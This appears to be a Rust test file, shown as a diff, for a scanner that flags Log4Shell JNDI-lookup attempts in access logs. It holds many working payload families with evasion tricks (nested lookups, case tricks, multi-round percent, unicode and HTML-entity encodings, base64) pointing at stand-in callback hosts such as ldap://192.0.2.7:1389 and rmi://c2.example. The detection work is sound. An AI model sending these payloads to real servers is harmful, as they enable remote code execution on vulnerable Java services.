@@ -1,0 +1,249 @@
+//! Spellings, fields, verdicts and limits of the attempt scan, and our own corpus of lines.
+
+use std::fmt::Write as _;
+
+use relight_model::OrgId;
+use testkit::Rng;
+
+use super::*;
+use crate::parsers::{Feed, LogParser, named};
+
+/// Spells each byte, in `percent` of 100 cases, in one of the ways that [`decode`] undoes.
+pub(crate) fn spell(text: &[u8], rng: &mut Rng, percent: usize) -> Vec<u8> {
+    let mut out = Vec::new();
+    for &byte in text {
+        if rng.chance(percent) || byte == b'{' && rng.chance(30) {
+            out.extend(spelling(byte, rng).into_bytes());
+        } else {
+            out.push(byte);
+        }
+    }
+    out
+}
+
+fn spelling(byte: u8, rng: &mut Rng) -> String {
+    let names: Vec<&str> = match byte {
+        b'$' => vec!["dollar", "Dollar"],
+        b'{' => vec!["lbrace", "lcub", "LCUB"],
+        b'}' => vec!["rbrace", "rcub"],
+        b':' => vec!["colon"],
+        b'/' => vec!["sol"],
+        b'%' => vec!["percnt"],
+        b'\\' => vec!["bsol"],
+        b'&' => vec!["amp", "AMP"],
+        b'#' => vec!["num"],
+        _ => Vec::new(),
+    };
+    match rng.below(if names.is_empty() { 10 } else { 12 }) {
+        0 => format!("%{byte:02x}"),
+        1 => format!("%{byte:02X}"),
+        2 => format!("%u{byte:04x}"),
+        3 => format!("%U{byte:04X}"),
+        4 => format!("\\u{byte:04x}"),
+        5 => format!("\\uuu{byte:04X}"),
+        6 => format!("\\x{byte:02x}"),
+        7 => format!("\\{byte:03o}"),
+        8 => format!("&#{}{byte};", "0".repeat(rng.below(4))),
+        9 => format!("&#x{}{byte:x};", "0".repeat(rng.below(4))),
+        _ => format!("&{};", rng.pick(&names)),
+    }
+}
+
+fn event(line: &str) -> Event<'_> {
+    static FEED: Feed = Feed { org: OrgId(0), site: None, host: String::new() };
+    named("combined").unwrap().parse(&FEED, line).unwrap()
+}
+
+fn line(target: &str, user: &str, referer: &str, agent: &str) -> String {
+    format!(
+        "192.0.2.1 - {user} [10/Dec/2021:02:05:58 +0000] \"GET {target} HTTP/1.1\" 404 9 \
+         \"{referer}\" \"{agent}\""
+    )
+}
+
+fn seen(line: &str) -> Option<(&'static str, &'static str, String)> {
+    attempt(&event(line)).map(|found| (found.verdict.as_str(), found.field, found.key))
+}
+
+#[test]
+fn every_field_is_looked_at_alone() {
+    let payload = "${jndi:ldap://x/a}";
+    let key = "ldap://x/a".to_owned();
+    for (line, field) in [
+        (line(&format!("/{payload}"), "-", "-", "-"), "path"),
+        (line(&format!("/?q={payload}"), "-", "-", "-"), "query"),
+        (line("/", payload, "-", "-"), "user"),
+        (line("/", "-", payload, "-"), "referer"),
+        (line("/", "-", "-", payload), "user-agent"),
+        // An unclosed opening in one field must not hide the payload of another.
+        (line("/${x", "-", "-", payload), "user-agent"),
+        (line(&format!("/?a=${{x&q={payload}"), "-", "-", "-"), "value"),
+    ] {
+        assert_eq!(seen(&line), Some(("effective/remote", field, key.clone())), "{line}");
+    }
+    // A question mark inside the payload: only the target as a whole holds all of it.
+    let found = seen(&line("/${jndi:ldap://x/a?b}", "-", "-", "-"));
+    assert_eq!(found, Some(("effective/remote", "target", "ldap://x/a?b".to_owned())));
+}
+
+#[test]
+fn steps_show_how_it_was_written() {
+    let line = line("/?q=%2524%257bjndi:ldap://Host.example:1389/a%257d", "-", "-", "-");
+    let found = attempt(&event(&line)).unwrap();
+    assert_eq!(found.steps.len(), 3);
+    assert!(found.steps[2].contains("${jndi:ldap://Host.example:1389/a}"));
+    let callback = found.callback().unwrap();
+    assert_eq!((callback.host.as_str(), callback.port), ("host.example", Some(1389)));
+    assert_eq!((callback.scheme.as_str(), callback.path.as_str()), ("ldap", "a"));
+}
+
+#[test]
+fn callbacks_of_odd_keys() {
+    let host = |key: &str| Callback::parse(key).map(|callback| (callback.host, callback.port));
+    assert_eq!(
+        host("ldap:/127.0.0.1#ev.example:1099/a"),
+        Some(("127.0.0.1#ev.example".into(), Some(1099)))
+    );
+    assert_eq!(host("ldap://[2001:db8::1]:389/x"), Some(("[2001:db8::1]".into(), Some(389))));
+    assert_eq!(host("ldap://[2001:db8::1]/x"), Some(("[2001:db8::1]".into(), None)));
+    assert_eq!(host("ldap://h:99999/x"), Some(("h:99999".into(), None)));
+    assert_eq!(host("java:comp/env/x"), None);
+    assert_eq!(host("name"), None);
+}
+
+#[test]
+fn basic_credentials_are_opened() {
+    // "${jndi:ldap://x/a}:pw"
+    let agent = "Basic JHtqbmRpOmxkYXA6Ly94L2F9OnB3";
+    let found = seen(&line("/", "-", "-", agent)).unwrap();
+    assert_eq!(found.0, "effective/remote");
+    assert_eq!(seen(&line("/", "-", "-", "Basic not base64!")), None);
+    assert_eq!(seen(&line("/", "-", "-", "basic dXNlcjpwdw==")), None);
+}
+
+#[test]
+fn six_rounds_and_no_more() {
+    let mut text = "${jndi:ldap://x/a}".to_owned();
+    for round in 0..=DECODE_ROUNDS_MAX {
+        let found = seen(&line(&format!("/?q={text}"), "-", "-", "-"));
+        assert!(found.is_some(), "{round}");
+        text = text.replace('%', "%25").replace('$', "%24");
+    }
+    assert_eq!(seen(&line(&format!("/?q={text}"), "-", "-", "-")), None);
+}
+
+#[test]
+fn one_round_undoes_each_escape_once() {
+    let once = |text: &str| String::from_utf8_lossy(&decode(text.as_bytes())).into_owned();
+    for (text, decoded) in [
+        ("%24%7B", "${"),
+        ("%2524", "%24"),
+        ("%u0024\\u007b\\uu007B\\x7b\\173", "${{{{"),
+        ("&#36;&#0036&#x24;&#X024&dollar;&LBRACE;", "$$$$${"),
+        ("&amp;#36;", "&#36;"),
+        (
+            "%zz %2 % \\q \\8 \\400 & &# &#; &#xg; &nope; &amp",
+            "%zz %2 % \\q \\8 \\400 & &# &#; &#xg; &nope; &amp",
+        ),
+        ("\\ud83d", "\u{fffd}"),
+        ("&#99999999999;", "&#99999999999;"),
+        ("", ""),
+    ] {
+        assert_eq!(once(text), decoded, "{text}");
+    }
+    assert_eq!(undo_log_escape(r#"\"\\\x41\xzz\u0024\n\"#), b"\"\\A\\xzz\\u0024\n\\");
+}
+
+#[test]
+fn base64_of_both_alphabets() {
+    assert_eq!(base64(b"aGk="), Some(b"hi".to_vec()));
+    assert_eq!(base64(b"aGk"), Some(b"hi".to_vec()));
+    assert_eq!(base64(b"-_-_"), base64(b"+/+/"));
+    assert_eq!(base64(b"a"), None);
+    assert_eq!(base64(b"a b="), None);
+}
+
+#[test]
+fn steps_are_cut_at_a_character() {
+    let text = "\u{e9}".repeat(STEP_BYTES_MAX);
+    assert_eq!(shortened(&text).len(), STEP_BYTES_MAX);
+    assert!(shortened(&("a".to_owned() + &text)).len() < STEP_BYTES_MAX);
+}
+
+/// Families of payloads with the verdict that the rules of the evaluator give them. `@` stands
+/// for the callback.
+const FAMILIES: [(&str, &str); 24] = [
+    ("effective/remote", "${jndi:@}"),
+    ("effective/remote", "${JNDI:@}"),
+    ("effective/remote", "${${lower:J}ndi:@}"),
+    ("effective/remote", "${${::-j}${::-n}${::-d}${::-i}:@}"),
+    ("effective/remote", "${${env:NOPE:-j}ndi${env:NOPE:-:}@}"),
+    ("effective/remote", "${${date:'j'}${date:'ndi'}:@}"),
+    ("effective/remote", "${${upper:j}${lower:N}d${sys:x:-i}:@}"),
+    ("effective/remote", "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:N}di:@}"),
+    ("effective/remote", "${}${jndi:@}"),
+    ("effective/remote", "before ${jndi:@} after ${b"),
+    ("effective/remote", "$${jndi:@} ${"),
+    ("effective/remote", "${x:-${jndi:@}}"),
+    ("effective/local", "${jndi:java:comp/env/jdbc}"),
+    ("effective/local", "${jndi:mail/Session}"),
+    ("attempt/truncated", "${jndi:@"),
+    ("attempt/truncated", "${b ${jndi:@}"),
+    ("attempt/escaped", "$${jndi:@}"),
+    ("attempt/spaced", "${jndi :@}"),
+    ("benign", "${jndi:-@}"),
+    ("benign", "jndi:@"),
+    ("benign", "{jndi:@}"),
+    ("benign", "${env:HOME}/${sys:user.name}"),
+    ("benign", "${ctx:jndi:@}"),
+    ("benign", "#{jndi:@}"),
+];
+
+const CALLBACKS: [&str; 4] = [
+    "ldap://192.0.2.7:1389/a",
+    "rmi://c2.example/Basic",
+    "dns:/x.example",
+    "ldaps://[2001:db8::7]:636/o=x",
+];
+
+/// The corpus, made anew: each family with several callbacks, spellings and places.
+fn corpus() -> String {
+    let mut rng = Rng::new(2021);
+    let mut out = String::new();
+    for (verdict, family) in FAMILIES {
+        // Half a spelling of the others changes what they are: `%24${jndi:…}` is no escape.
+        let may_be_spelled = verdict == "effective/remote" || family == "${jndi:@";
+        for number in 0..if may_be_spelled { 24 } else { 4 } {
+            let payload = family.replace('@', CALLBACKS[number % CALLBACKS.len()]);
+            let mut spelled = payload.into_bytes();
+            for _ in 0..if may_be_spelled { number % 4 } else { 0 } {
+                spelled = spell(&spelled, &mut rng, 25);
+            }
+            let spelled = String::from_utf8_lossy(&spelled).into_owned();
+            // As the server writes it: quotes and backslashes escaped.
+            let logged = spelled.replace('\\', "\\\\").replace('"', "\\\"");
+            let line = match rng.below(4) {
+                0 => line("/", "-", "-", &format!("Mozilla/5.0 {logged}")),
+                1 => line("/index.html", "-", &logged, "Mozilla/5.0"),
+                2 => line("/login", &logged, "-", "curl/7.74.0"),
+                _ => line(&format!("/search?lang=fr&q={logged}"), "-", "-", "Mozilla/5.0"),
+            };
+            let _ = writeln!(out, "{verdict}\t{line}");
+        }
+    }
+    out
+}
+
+/// Goal: the committed corpus keeps its verdicts. Method: the file is what the generator above
+/// writes (so that it cannot be edited to please), and each line is parsed and scanned.
+#[test]
+fn the_corpus_keeps_its_verdicts() {
+    expect_test::expect_file!["../../corpus/jndi.tsv"].assert_eq(&corpus());
+    let corpus = corpus();
+    assert!(corpus.lines().count() > 300);
+    for row in corpus.lines() {
+        let (verdict, line) = row.split_once('\t').unwrap();
+        let found = attempt(&event(line)).map_or("benign", |found| found.verdict.as_str());
+        assert_eq!(found, verdict, "{line}");
+    }
+}
